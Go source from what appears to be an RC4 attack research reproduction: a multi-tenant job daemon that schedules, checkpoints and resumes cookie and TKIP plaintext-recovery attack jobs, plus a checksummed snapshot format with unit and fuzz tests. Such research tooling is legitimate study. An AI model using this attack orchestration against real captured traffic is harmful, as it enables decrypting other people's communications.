			s.modelKeys[man.Spec.TrainKeys] = man.Model
		}
	}

	s.obsTotal = s.reg.Counter("attackd_observations_total",
		"records/frames folded into evidence across all jobs (rate() gives records per second)")
	s.roundsTotal = s.reg.Counter("attackd_decode_rounds_total", "decode rounds completed")
	s.decodeSeconds = s.reg.Counter("attackd_decode_seconds_total",
		"time spent in decode rounds (divide by attackd_decode_rounds_total for mean round latency)")
	s.roundSeconds = s.reg.Histogram("attackd_decode_round_seconds",
		"decode round latency distribution", metrics.ExponentialBuckets(0.001, 2, 16))
	s.granuleSeconds = s.reg.Histogram("attackd_granule_seconds",
		"capture granule service time (one scheduler slot held per observation)", metrics.ExponentialBuckets(0.001, 2, 16))
	s.httpSeconds = s.reg.Histogram("attackd_http_request_seconds",
		"job API request service time", metrics.ExponentialBuckets(0.0001, 4, 10))
	metrics.RuntimeGauges(s.reg)
	for _, st := range JobStates {
		state := st
		s.reg.GaugeFunc("attackd_jobs", "jobs by lifecycle state",
			func() float64 { return float64(s.countState(state)) }, "state", state)
	}
	s.reg.GaugeFunc("attackd_queue_depth", "Acquires waiting for a scheduler slot",
		func() float64 { return float64(s.sched.Waiting()) })
	s.reg.GaugeFunc("attackd_slots_in_use", "scheduler slots currently held",
		func() float64 { return float64(s.sched.InUse()) })
	s.reg.GaugeFunc("attackd_store_blobs", "content-addressed blobs in the store",
		func() float64 {
			n, err := s.store.BlobCount()
			if err != nil {
				return -1
			}
			return float64(n)
		})
	return s, nil
}

// Registry exposes the server's metrics registry (the daemon mounts it at
// /metrics).
func (s *Server) Registry() *metrics.Registry { return s.reg }

// Ready implements the /healthz contract: an error while draining.
func (s *Server) Ready() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.stopped != nil {
		return fmt.Errorf("service: shutting down (%v)", s.stopped)
	}
	return nil
}

// Resume relaunches every non-terminal persisted job (queued, running —
// i.e. crashed mid-run — or suspended by a drain) and returns how many it
// started. Each resumes from its last evidence checkpoint; because capture
// granules are absolute, the resumed jobs complete byte-identically to
// never-interrupted runs.
func (s *Server) Resume() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, id := range s.order {
		j := s.jobs[id]
		j.mu.Lock()
		state := j.man.State
		j.mu.Unlock()
		if state == StateDone || state == StateFailed {
			continue
		}
		n++
		s.launch(j)
	}
	return n
}

// launch starts a job goroutine; callers hold s.mu.
func (s *Server) launch(j *Job) {
	s.wg.Add(1)
	go func(j *Job) {
		defer s.wg.Done()
		s.runJob(j)
	}(j)
}

// Submit admits one job for tenant, persists its manifest, and starts it.
func (s *Server) Submit(tenant string, spec JobSpec) (JobStatus, error) {
	spec, err := spec.Normalize()
	if err != nil {
		return JobStatus{}, err
	}
	if tenant == "" {
		tenant = "default"
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.stopped != nil {
		return JobStatus{}, ErrDraining
	}
	total, mine := s.activeCounts(tenant)
	if s.cfg.MaxActive > 0 && total >= s.cfg.MaxActive {
		return JobStatus{}, ErrQueueFull
	}
	if s.cfg.TenantMaxActive > 0 && mine >= s.cfg.TenantMaxActive {
		return JobStatus{}, ErrTenantBusy
	}

	man := Manifest{
		ID:     fmt.Sprintf("j-%04d", s.nextID),
		Tenant: tenant,
		Spec:   spec,
		State:  StateQueued,
	}
	if err := s.store.PutManifest(man); err != nil {
		return JobStatus{}, err
	}
	s.nextID++
	j := newJob(man)
	s.jobs[man.ID] = j
	s.order = append(s.order, man.ID)
	s.eventf(j, StateQueued, 0, 0, "admitted")
	s.cfg.Tracer.Start(traceParent(spec), "job.admit",
		obs.Str("job", man.ID), obs.Str("tenant", tenant)).End()
	s.logf("job %s (%s): admitted %s/%s", man.ID, tenant, spec.Attack, spec.Mode)
	s.launch(j)
	return statusOf(man), nil
}

// activeCounts reports unfinished jobs in total and for tenant; callers
// hold s.mu.
func (s *Server) activeCounts(tenant string) (total, mine int) {
	for _, id := range s.order {
		j := s.jobs[id]
		j.mu.Lock()
		state, t := j.man.State, j.man.Tenant
		j.mu.Unlock()
		if state == StateDone || state == StateFailed {
			continue
		}
		total++
		if t == tenant {
			mine++
		}
	}
	return total, mine
}

func (s *Server) countState(state string) int {
	s.mu.Lock()
	js := make([]*Job, 0, len(s.order))
	for _, id := range s.order {
		js = append(js, s.jobs[id])
	}
	s.mu.Unlock()
	n := 0
	for _, j := range js {
		j.mu.Lock()
		if j.man.State == state {
			n++
		}
		j.mu.Unlock()
	}
	return n
}

// Drain performs the graceful SIGTERM shutdown: stop admitting, wake every
// waiting job with the drain signal, let in-flight granules finish, and
// checkpoint + suspend every running job. When Drain returns the store
// holds a resumable image of every job.
func (s *Server) Drain() {
	s.stop(errDrained)
	s.logf("drained: all jobs checkpointed and suspended")
}

// Interrupt is the crash simulation used by the restart tests: jobs are
// stopped between granules WITHOUT any final checkpoint or manifest write,
// so the store holds exactly what a kill -9 would have left — the durable
// state as of the last ordinary checkpoint.
func (s *Server) Interrupt() {
	s.stop(errInterrupted)
}

func (s *Server) stop(cause error) {
	s.mu.Lock()
	if s.stopped == nil {
		s.stopped = cause
	}
	s.mu.Unlock()
	s.sched.Stop(cause)
	s.wg.Wait()
	// Unblock any event-stream readers of jobs that never reached a
	// terminal event (interrupted jobs write nothing).
	s.mu.Lock()
	js := make([]*Job, 0, len(s.order))
	for _, id := range s.order {
		js = append(js, s.jobs[id])
	}
	s.mu.Unlock()
	for _, j := range js {
		j.mu.Lock()
		j.terminal = true
		j.cond.Broadcast()
		j.mu.Unlock()
	}
}

// Wait blocks until every launched job goroutine has returned (jobs all
// terminal or suspended). Tests use it; the daemon uses Drain.
func (s *Server) Wait() { s.wg.Wait() }

// traceParent resolves the span parent of a job's spans: the submitter's
// trace when the spec carries a (Normalize-validated) trace_id, otherwise a
// fresh trace per job.
func traceParent(spec JobSpec) obs.SpanContext {
	var parent obs.SpanContext
	if spec.TraceID != "" {
		if id, err := ParseTraceID(spec.TraceID); err == nil {
			parent.Trace = id
		}
	}
	return parent
}

// runJob drives one job's online loop end to end.
func (s *Server) runJob(j *Job) {
	j.mu.Lock()
	man := j.man
	j.mu.Unlock()
	spec := man.Spec

	// The job-lifetime span brackets everything from first schedule to the
	// terminal state; granule and decode spans nest under it.
	jobSpan := s.cfg.Tracer.Start(traceParent(spec), "job.run",
		obs.Str("job", man.ID), obs.Str("tenant", man.Tenant),
		obs.Str("attack", spec.Attack), obs.Str("mode", spec.Mode),
		obs.U64("budget", spec.Budget))
	outcome := StateFailed
	defer func() {
		jobSpan.SetAttrs(obs.Str("outcome", outcome))
		jobSpan.End()
	}()
	jobCtx := jobSpan.Context()

	var model *tkip.PerTSCModel
	var err error
	if spec.Attack == "tkip" {
		if model, err = s.ensureModel(j, spec.TrainKeys); err != nil {
			s.finishFailed(j, 0, 0, online.Result{}, err)
			return
		}
	}
	var evidence []byte
	if man.Evidence != "" {
		key, err := ParseKey(man.Evidence)
		if err == nil {
			evidence, err = s.store.GetBlob(key)
		}
		if err != nil {
			s.finishFailed(j, man.Observed, man.Rounds, online.Result{}, err)
			return
		}
	}
	rt, err := newJobRuntime(spec, evidence, model)
	if err != nil {
		s.finishFailed(j, man.Observed, man.Rounds, online.Result{}, err)
		return
	}

	gate := func() error {
		if err := s.sched.Acquire(man.Tenant); err != nil {
			return err
		}
		s.markRunning(j, rt.observed())
		return nil
	}
	feed := &chunkedFeed{
		chunk:    spec.CaptureChunk,
		observed: rt.observed,
		capture: func(target uint64) error {
			gs := s.cfg.Tracer.Start(jobCtx, "job.granule", obs.U64("target", target))
			t0 := time.Now() //rc4lint:allow timing granule-latency histogram only; never reaches evidence or persisted state
			err := rt.capture(target)
			s.granuleSeconds.ObserveDuration(time.Since(t0)) //rc4lint:allow timing granule-latency histogram only
			gs.End()
			return err
		},
		gate:      gate,
		ungate:    s.sched.Release,
		onAdvance: func(n uint64) { s.obsTotal.Add(float64(n)) },
	}
	dec := &gatedDecoder{
		Decoder: rt.decoder,
		feed:    feed,
		gate:    gate,
		ungate:  s.sched.Release,
		tracer:  s.cfg.Tracer,
		parent:  jobCtx,
		onRound: func(d time.Duration) {
			s.roundsTotal.Inc()
			s.decodeSeconds.Add(d.Seconds())
			s.roundSeconds.ObserveDuration(d)
		},
	}
	// The evidence already holds rounds from a previous incarnation; the
	// decoder only counts this process's rounds.
	dec.rounds = man.Rounds

	sinceCheckpoint := 0
	res, runErr := online.Run(online.Config{
		Decoder:       dec,
		Oracle:        rt.oracle,
		Cadence:       spec.cadence(),
		MaxCandidates: spec.MaxCandidates,
		Budget:        spec.Budget,
		Feed:          feed,
		Checkpoint: func() error {
			sinceCheckpoint++
			persist := sinceCheckpoint >= spec.CheckpointRounds
			if persist {
				sinceCheckpoint = 0
			}
			return s.checkpoint(j, rt, dec.rounds, persist)
		},
	})
	switch {
	case runErr == nil, errors.Is(runErr, online.ErrBudgetExhausted):
		outcome = StateDone
		s.finishDone(j, rt, dec.rounds, res, runErr)
	case errors.Is(runErr, errDrained):
		outcome = StateSuspended
		s.suspend(j, rt, dec.rounds)
	case errors.Is(runErr, errInterrupted):
		outcome = "interrupted"
		// Crash simulation: no writes, no events — the process "died".
	default:
		s.finishFailed(j, rt.observed(), dec.rounds, res, runErr)
	}
}

// ensureModel trains (or reuses) the shared model for trainKeys, persists
// it content-addressed exactly once, and records its key in the job's
// manifest. N tkip jobs against the same TrainKeys hold one blob.
func (s *Server) ensureModel(j *Job, trainKeys uint64) (*tkip.PerTSCModel, error) {
	model, err := SharedModel(trainKeys)
	if err != nil {
		return nil, err
	}
	s.mu.Lock()
	keyHex, ok := s.modelKeys[trainKeys]
	s.mu.Unlock()
	if !ok {
		var buf bytes.Buffer
		if err := model.Save(&buf); err != nil {
			return nil, err
		}
		key, _, err := s.store.PutBlob(buf.Bytes())
		if err != nil {
			return nil, err
		}
		keyHex = hex.EncodeToString(key[:])
		s.mu.Lock()
		s.modelKeys[trainKeys] = keyHex
		s.mu.Unlock()
	}
	j.mu.Lock()
	j.man.Model = keyHex
	j.mu.Unlock()
	return model, nil
}

// markRunning flips a job to running on its first scheduler grant; the
// manifest write makes a subsequent crash resume it as in-flight.
func (s *Server) markRunning(j *Job, observed uint64) {
	j.mu.Lock()
	if j.man.State == StateRunning {
		j.mu.Unlock()
		return
	}
	j.man.State = StateRunning
	man := j.man
	j.mu.Unlock()
	if err := s.store.PutManifest(man); err != nil {
		s.logf("job %s: manifest write failed: %v", man.ID, err)
	}
	s.eventf(j, StateRunning, observed, 0, "first slot granted")
	s.logf("job %s (%s): running", man.ID, man.Tenant)
}

// checkpoint records round progress and, when persist is set, writes the
// evidence blob + manifest so a crash from here resumes at this round.
func (s *Server) checkpoint(j *Job, rt *jobRuntime, rounds int, persist bool) error {
	observed := rt.observed()
	j.mu.Lock()
	j.man.Observed = observed
	j.man.Rounds = rounds
	j.mu.Unlock()
	if persist {
		snap, err := rt.evidence()
		if err != nil {
			return err
		}
		key, _, err := s.store.PutBlob(snap)
		if err != nil {
			return err
		}
		j.mu.Lock()
		j.man.Evidence = hex.EncodeToString(key[:])
		man := j.man
		j.mu.Unlock()
		if err := s.store.PutManifest(man); err != nil {
			return err
		}
	}
	s.eventf(j, StateRunning, observed, rounds, "round complete, no confirmed hit")
	return nil
}

// persistFinal writes the job's final evidence blob (always, regardless of
// CheckpointRounds) and its terminal manifest.
func (s *Server) persistFinal(j *Job, rt *jobRuntime) error {
	snap, err := rt.evidence()
	if err != nil {
		return err
	}
	key, _, err := s.store.PutBlob(snap)
	if err != nil {
		return err
	}
	j.mu.Lock()
	j.man.Evidence = hex.EncodeToString(key[:])
	man := j.man
	j.mu.Unlock()
	return s.store.PutManifest(man)
}

func (s *Server) finishDone(j *Job, rt *jobRuntime, rounds int, res online.Result, runErr error) {
	j.mu.Lock()
	j.man.State = StateDone
	j.man.Observed = rt.observed()
	j.man.Rounds = rounds
	j.man.Result = JobResult{
		Success:   runErr == nil,
		Plaintext: res.Plaintext,
		Rank:      res.Rank,
		Checks:    res.Checks,
		Skipped:   res.Skipped,
	}
	if runErr != nil {
		j.man.Result.Error = runErr.Error()
	}
	man := j.man
	j.mu.Unlock()
	if err := s.persistFinal(j, rt); err != nil {
		s.finishFailed(j, man.Observed, rounds, res, err)
		return
	}
	msg := "budget exhausted without a confirmed hit"
	if runErr == nil {
		msg = fmt.Sprintf("confirmed at rank %d", res.Rank)
	}
	s.terminalEvent(j, StateDone, man.Observed, rounds, msg)
	s.logf("job %s (%s): done — %s after %d observations, %d rounds",
		man.ID, man.Tenant, msg, man.Observed, rounds)
	s.emitResult(man, res, runErr)
}

func (s *Server) finishFailed(j *Job, observed uint64, rounds int, res online.Result, cause error) {
	j.mu.Lock()
	j.man.State = StateFailed
	j.man.Observed = observed
	j.man.Rounds = rounds
	j.man.Result.Error = cause.Error()
	man := j.man
	j.mu.Unlock()
	if err := s.store.PutManifest(man); err != nil {
		s.logf("job %s: terminal manifest write failed: %v", man.ID, err)
	}
	s.terminalEvent(j, StateFailed, observed, rounds, cause.Error())
	s.logf("job %s (%s): failed: %v", man.ID, man.Tenant, cause)
	s.emitResult(man, res, cause)
}

// suspend is the drain path: checkpoint the evidence exactly where the
// scheduler stopped granting (a granule boundary) and mark the job
// suspended; Resume on a restarted server picks it up from here.
func (s *Server) suspend(j *Job, rt *jobRuntime, rounds int) {
	j.mu.Lock()
	j.man.State = StateSuspended
	j.man.Observed = rt.observed()
	j.man.Rounds = rounds
	man := j.man
	j.mu.Unlock()
	if err := s.persistFinal(j, rt); err != nil {
		s.logf("job %s: suspend checkpoint failed: %v", man.ID, err)
	}
	s.terminalEvent(j, StateSuspended, man.Observed, rounds, "drained; resumable from checkpoint")
	s.logf("job %s (%s): suspended at %d observations", man.ID, man.Tenant, man.Observed)
}

func (s *Server) emitResult(man Manifest, res online.Result, runErr error) {
	if s.cfg.Results == nil {
		return
	}
	r := cliutil.OnlineRunResult(man.Spec.Attack, man.Spec.Mode, res, runErr)
	r.Job = man.ID
	r.Tenant = man.Tenant
	s.resultsMu.Lock()
	defer s.resultsMu.Unlock()
	if err := r.Write(s.cfg.Results); err != nil {
		s.logf("job %s: result write failed: %v", man.ID, err)
	}
}

// eventf appends one progress event to the job's stream.
func (s *Server) eventf(j *Job, state string, observed uint64, round int, msg string) {
	j.mu.Lock()
	defer j.mu.Unlock()
	j.events = append(j.events, Event{
		Job: j.man.ID, Tenant: j.man.Tenant,
		Seq: len(j.events) + 1, State: state,
		Observed: observed, Round: round, Msg: msg,
	})
	j.cond.Broadcast()
}

func (s *Server) terminalEvent(j *Job, state string, observed uint64, round int, msg string) {
	s.eventf(j, state, observed, round, msg)
	j.mu.Lock()
	j.terminal = true
	j.cond.Broadcast()
	j.mu.Unlock()
}

func (s *Server) logf(format string, args ...interface{}) {
	if s.cfg.Logf != nil {
		s.cfg.Logf(format, args...)
	}
}

func statusOf(man Manifest) JobStatus {
	st := JobStatus{
		ID:       man.ID,
		Tenant:   man.Tenant,
		Attack:   man.Spec.Attack,
		Mode:     man.Spec.Mode,
		State:    man.State,
		Observed: man.Observed,
		Rounds:   man.Rounds,
		Success:  man.Result.Success,
		Rank:     man.Result.Rank,
		Checks:   man.Result.Checks,
		Skipped:  man.Result.Skipped,
		Error:    man.Result.Error,
		Evidence: man.Evidence,
		Model:    man.Model,
	}
	if len(man.Result.Plaintext) > 0 {
		st.Plaintext = hex.EncodeToString(man.Result.Plaintext)
	}
	return st
}

// Status reports one job.
func (s *Server) Status(id string) (JobStatus, error) {
	s.mu.Lock()
	j := s.jobs[id]
	s.mu.Unlock()
	if j == nil {
		return JobStatus{}, ErrNotFound
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	return statusOf(j.man), nil
}

// List reports every job in admission order, optionally filtered by tenant.
func (s *Server) List(tenant string) []JobStatus {
	s.mu.Lock()
	js := make([]*Job, 0, len(s.order))
	for _, id := range s.order {
		js = append(js, s.jobs[id])
	}
	s.mu.Unlock()
	out := make([]JobStatus, 0, len(js))
	for _, j := range js {
		j.mu.Lock()
		if tenant == "" || j.man.Tenant == tenant {
			out = append(out, statusOf(j.man))
		}
		j.mu.Unlock()
	}
	return out
}

// EventsSince blocks until the job has events past seq (or is terminal) and
// returns them plus whether the stream is complete. The streaming handler
// calls it in a loop.
func (s *Server) EventsSince(id string, seq int) ([]Event, bool, error) {
	s.mu.Lock()
	j := s.jobs[id]
	s.mu.Unlock()
	if j == nil {
		return nil, false, ErrNotFound
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	for len(j.events) <= seq && !j.terminal {
		j.cond.Wait()
	}
	evs := append([]Event(nil), j.events[seq:]...)
	return evs, j.terminal, nil
}

// EvidenceBytes returns the job's persisted evidence blob — the exact
// snapshot-envelope bytes a solo run's WriteSnapshot produces.
func (s *Server) EvidenceBytes(id string) ([]byte, error) {
	st, err := s.Status(id)
	if err != nil {
		return nil, err
	}
	if st.Evidence == "" {
		return nil, ErrNotDone
	}
	key, err := ParseKey(st.Evidence)
	if err != nil {
		return nil, err
	}
	return s.store.GetBlob(key)
}
