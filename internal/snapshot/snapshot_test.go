package snapshot

import (
	"bytes"
	"encoding/binary"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	payload := []byte("evidence bytes, arbitrary binary \x00\xff")
	if err := Write(&buf, "test.kind.v1", payload); err != nil {
		t.Fatal(err)
	}
	kind, got, err := Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if kind != "test.kind.v1" || !bytes.Equal(got, payload) {
		t.Fatalf("round trip mismatch: kind=%q payload=%q", kind, got)
	}
}

func TestRoundTripEmptyPayload(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, "empty", nil); err != nil {
		t.Fatal(err)
	}
	kind, got, err := Read(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if kind != "empty" || len(got) != 0 {
		t.Fatalf("empty round trip mismatch: kind=%q len=%d", kind, len(got))
	}
}

func TestBadMagic(t *testing.T) {
	_, _, err := Read(strings.NewReader("NOTASNAPand more bytes here"))
	if !errors.Is(err, ErrNotSnapshot) {
		t.Fatalf("want ErrNotSnapshot, got %v", err)
	}
}

func TestTruncation(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, "trunc", []byte("some payload")); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()
	// Every proper prefix must fail loudly, never decode quietly.
	for _, cut := range []int{0, 3, MagicLen, MagicLen + 2, MagicLen + 8, len(full) / 2, len(full) - 1} {
		_, _, err := Read(bytes.NewReader(full[:cut]))
		if !errors.Is(err, ErrTruncated) {
			t.Fatalf("cut at %d: want ErrTruncated, got %v", cut, err)
		}
	}
}

func TestFlippedByteCaughtByChecksum(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, "flip", bytes.Repeat([]byte{0xa5}, 1024)); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()
	// Flip one bit in the payload region.
	corrupt := append([]byte(nil), full...)
	corrupt[MagicLen+4+4+len("flip")+8+100] ^= 0x10
	if _, _, err := Read(bytes.NewReader(corrupt)); !errors.Is(err, ErrChecksum) {
		t.Fatalf("payload flip: want ErrChecksum, got %v", err)
	}
	// Flip a bit in the kind region too.
	corrupt = append([]byte(nil), full...)
	corrupt[MagicLen+4+4] ^= 0x01
	if _, _, err := Read(bytes.NewReader(corrupt)); !errors.Is(err, ErrChecksum) {
		t.Fatalf("kind flip: want ErrChecksum, got %v", err)
	}
}

func TestFutureVersionRejectedClearly(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, "vnext", []byte("x")); err != nil {
		t.Fatal(err)
	}
	full := buf.Bytes()
	binary.BigEndian.PutUint32(full[MagicLen:], Version+7)
	_, _, err := Read(bytes.NewReader(full))
	if err == nil || !strings.Contains(err.Error(), "version") {
		t.Fatalf("want clear version error, got %v", err)
	}
}

func TestGobRoundTripAndKindMismatch(t *testing.T) {
	type state struct {
		Counts []uint64
		N      uint64
	}
	in := state{Counts: []uint64{1, 2, 3}, N: 6}
	var buf bytes.Buffer
	if err := WriteGob(&buf, "state.v1", in); err != nil {
		t.Fatal(err)
	}
	raw := buf.Bytes()
	var out state
	if err := ReadGob(bytes.NewReader(raw), "state.v1", &out); err != nil {
		t.Fatal(err)
	}
	if out.N != 6 || len(out.Counts) != 3 || out.Counts[2] != 3 {
		t.Fatalf("gob round trip mismatch: %+v", out)
	}
	err := ReadGob(bytes.NewReader(raw), "other.v1", &out)
	if err == nil || !strings.Contains(err.Error(), "other.v1") {
		t.Fatalf("want kind mismatch error, got %v", err)
	}
}

func TestWriteFileGobAtomicAndReadBack(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "ckpt.snap")
	if err := WriteFileGob(path, "file.v1", []int{1, 2, 3}); err != nil {
		t.Fatal(err)
	}
	// Overwrite (the checkpoint loop does this every interval).
	if err := WriteFileGob(path, "file.v1", []int{4, 5}); err != nil {
		t.Fatal(err)
	}
	var got []int
	if err := ReadFileGob(path, "file.v1", &got); err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0] != 4 {
		t.Fatalf("read back %v", got)
	}
	// No leftover temp files.
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 1 {
		t.Fatalf("temp files left behind: %v", entries)
	}
}

func TestSniff(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, "sniffed", []byte("payload")); err != nil {
		t.Fatal(err)
	}
	replay, isEnv, err := Sniff(&buf)
	if err != nil || !isEnv {
		t.Fatalf("envelope not recognized: %v %v", isEnv, err)
	}
	if kind, _, err := Read(replay); err != nil || kind != "sniffed" {
		t.Fatalf("replayed read failed: kind=%q err=%v", kind, err)
	}

	legacy := strings.NewReader("legacy gob bytes")
	replay, isEnv, err = Sniff(legacy)
	if err != nil || isEnv {
		t.Fatalf("legacy stream misdetected: %v %v", isEnv, err)
	}
	all := new(bytes.Buffer)
	if _, err := all.ReadFrom(replay); err != nil {
		t.Fatal(err)
	}
	if all.String() != "legacy gob bytes" {
		t.Fatalf("sniff lost bytes: %q", all.String())
	}

	// Streams shorter than the magic replay intact too.
	replay, isEnv, err = Sniff(strings.NewReader("ab"))
	if err != nil || isEnv {
		t.Fatal("short stream misdetected")
	}
	all.Reset()
	all.ReadFrom(replay)
	if all.String() != "ab" {
		t.Fatalf("short sniff lost bytes: %q", all.String())
	}
}

func TestFingerprintStableAndDiscriminating(t *testing.T) {
	type cfg struct {
		A int
		B []byte
	}
	f1, err := Fingerprint(cfg{A: 1, B: []byte("x")})
	if err != nil {
		t.Fatal(err)
	}
	f2, err := Fingerprint(cfg{A: 1, B: []byte("x")})
	if err != nil {
		t.Fatal(err)
	}
	if f1 != f2 {
		t.Fatal("fingerprint not deterministic")
	}
	f3, err := Fingerprint(cfg{A: 2, B: []byte("x")})
	if err != nil {
		t.Fatal(err)
	}
	if f1 == f3 {
		t.Fatal("fingerprint does not discriminate configs")
	}
}

func TestBlobKeyContentAddressing(t *testing.T) {
	payload := []byte("shared model payload")
	k1 := BlobKey("model.v1", payload)
	k2 := BlobKey("model.v1", append([]byte(nil), payload...))
	if k1 != k2 {
		t.Fatal("identical (kind, payload) must map to one key")
	}
	if BlobKey("model.v2", payload) == k1 {
		t.Fatal("kind must be part of the address")
	}
	mutated := append([]byte(nil), payload...)
	mutated[3] ^= 1
	if BlobKey("model.v1", mutated) == k1 {
		t.Fatal("payload bit flip must change the key")
	}
	// The kind is folded in length-prefixed, so shifting bytes between kind
	// and payload must not alias.
	if BlobKey("ab", []byte("c")) == BlobKey("a", []byte("bc")) {
		t.Fatal("kind/payload boundary must be unambiguous")
	}
	if BlobKey("k", nil) == BlobKey("k", []byte{0}) {
		t.Fatal("empty payload must not alias a zero byte")
	}
}
