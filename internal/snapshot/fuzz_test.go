package snapshot

import (
	"bytes"
	"testing"
)

// FuzzRead hammers the envelope parser: arbitrary bytes must never panic
// or allocate past the input's actual size (the incremental payload copy),
// and any envelope it accepts must re-encode to a parseable envelope.
func FuzzRead(f *testing.F) {
	var valid bytes.Buffer
	if err := Write(&valid, "rc4break.fuzz.v1", []byte("payload-bytes")); err != nil {
		f.Fatal(err)
	}
	f.Add(valid.Bytes())
	f.Add([]byte(Magic))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		kind, payload, err := Read(bytes.NewReader(data))
		if err != nil {
			return
		}
		var out bytes.Buffer
		if err := Write(&out, kind, payload); err != nil {
			t.Fatalf("accepted envelope does not re-encode: %v", err)
		}
		kind2, payload2, err := Read(bytes.NewReader(out.Bytes()))
		if err != nil || kind2 != kind || !bytes.Equal(payload2, payload) {
			t.Fatalf("re-encoded envelope does not round-trip: %v", err)
		}
	})
}
