// Package snapshot defines the repository's attack-state persistence
// envelope: a versioned, checksummed binary container that every on-disk
// artifact — cookie-attack evidence, TKIP capture state, trained per-TSC
// models, keystream datasets — shares. The paper's collection campaigns run
// for hours across machines (§3.2's ~80-machine cluster, §5.4/§6.3's
// multi-hour captures), so shards must be able to checkpoint, crash, resume,
// and merge without one flipped bit or one mismatched layout silently
// corrupting billions of observations. The envelope gives each consumer:
//
//   - a magic marker, so stale or foreign files fail fast instead of
//     producing an opaque gob decode error;
//   - an explicit format version, so future layouts are rejected with a
//     message naming both versions;
//   - a kind string, so a TKIP model is never decoded as cookie evidence;
//   - a CRC-64 trailer over the whole envelope, so truncation and bit flips
//     are detected before any payload reaches a decoder.
//
// Payloads themselves are gob-encoded by the owning package; the envelope is
// deliberately ignorant of their shape.
package snapshot

import (
	"bytes"
	"encoding/binary"
	"encoding/gob"
	"errors"
	"fmt"
	"hash/crc64"
	"io"
	"os"
	"path/filepath"
)

// Magic identifies a snapshot envelope; it is the first MagicLen bytes of
// every file the repository's tools write.
const Magic = "RC4BSNAP"

// MagicLen is the length of Magic in bytes.
const MagicLen = len(Magic)

// Version is the envelope format version this package writes and the newest
// it can read.
const Version = 1

// Errors surfaced by Read. ErrNotSnapshot lets callers with legacy formats
// (pre-envelope gob streams) fall back instead of failing hard.
var (
	ErrNotSnapshot = errors.New("snapshot: not a snapshot envelope (bad magic)")
	ErrChecksum    = errors.New("snapshot: checksum mismatch (file corrupted)")
	ErrTruncated   = errors.New("snapshot: truncated envelope (incomplete write or cut-off file)")
)

// maxKindLen bounds the kind string; anything longer indicates corruption.
const maxKindLen = 256

var crcTable = crc64.MakeTable(crc64.ECMA)

// Write emits one envelope: magic, version, kind, payload, CRC-64 trailer.
func Write(w io.Writer, kind string, payload []byte) error {
	if len(kind) == 0 || len(kind) > maxKindLen {
		return fmt.Errorf("snapshot: kind length %d out of range [1,%d]", len(kind), maxKindLen)
	}
	header := make([]byte, 0, MagicLen+4+4+len(kind)+8)
	header = append(header, Magic...)
	header = binary.BigEndian.AppendUint32(header, Version)
	header = binary.BigEndian.AppendUint32(header, uint32(len(kind)))
	header = append(header, kind...)
	header = binary.BigEndian.AppendUint64(header, uint64(len(payload)))

	crc := crc64.Update(0, crcTable, header)
	crc = crc64.Update(crc, crcTable, payload)

	if _, err := w.Write(header); err != nil {
		return err
	}
	if _, err := w.Write(payload); err != nil {
		return err
	}
	var trailer [8]byte
	binary.BigEndian.PutUint64(trailer[:], crc)
	_, err := w.Write(trailer[:])
	return err
}

// Read parses one envelope, verifying magic, version, and checksum. It
// returns the kind and payload. A stream that does not start with the magic
// yields ErrNotSnapshot; short streams yield ErrTruncated; a trailer
// mismatch yields ErrChecksum.
func Read(r io.Reader) (kind string, payload []byte, err error) {
	fixed := make([]byte, MagicLen+4+4)
	if err := readFull(r, fixed); err != nil {
		return "", nil, err
	}
	if string(fixed[:MagicLen]) != Magic {
		return "", nil, ErrNotSnapshot
	}
	version := binary.BigEndian.Uint32(fixed[MagicLen:])
	if version == 0 || version > Version {
		return "", nil, fmt.Errorf("snapshot: envelope version %d not supported (this build reads up to version %d)", version, Version)
	}
	kindLen := binary.BigEndian.Uint32(fixed[MagicLen+4:])
	if kindLen == 0 || kindLen > maxKindLen {
		return "", nil, fmt.Errorf("snapshot: corrupt kind length %d", kindLen)
	}
	rest := make([]byte, int(kindLen)+8)
	if err := readFull(r, rest); err != nil {
		return "", nil, err
	}
	kind = string(rest[:kindLen])
	payloadLen := binary.BigEndian.Uint64(rest[kindLen:])
	const maxPayload = 1 << 40
	if payloadLen > maxPayload {
		return "", nil, fmt.Errorf("snapshot: corrupt payload length %d", payloadLen)
	}
	// Copy incrementally rather than trusting the untrusted length field
	// with one up-front allocation: a corrupt length on a short file ends
	// at ErrTruncated with memory bounded by the actual stream size.
	var payloadBuf bytes.Buffer
	if n, err := io.CopyN(&payloadBuf, r, int64(payloadLen)); err != nil {
		if err == io.EOF && n < int64(payloadLen) {
			return "", nil, ErrTruncated
		}
		return "", nil, err
	}
	payload = payloadBuf.Bytes()
	var trailer [8]byte
	if err := readFull(r, trailer[:]); err != nil {
		return "", nil, err
	}
	crc := crc64.Update(0, crcTable, fixed)
	crc = crc64.Update(crc, crcTable, rest)
	crc = crc64.Update(crc, crcTable, payload)
	if binary.BigEndian.Uint64(trailer[:]) != crc {
		return "", nil, ErrChecksum
	}
	return kind, payload, nil
}

func readFull(r io.Reader, buf []byte) error {
	if _, err := io.ReadFull(r, buf); err != nil {
		if err == io.EOF || err == io.ErrUnexpectedEOF {
			return ErrTruncated
		}
		return err
	}
	return nil
}

// WriteGob gob-encodes v and writes it as an envelope of the given kind.
func WriteGob(w io.Writer, kind string, v any) error {
	var buf bytes.Buffer
	if err := gob.NewEncoder(&buf).Encode(v); err != nil {
		return err
	}
	return Write(w, kind, buf.Bytes())
}

// EncodeGob gob-encodes v into a standalone payload — the producer half of
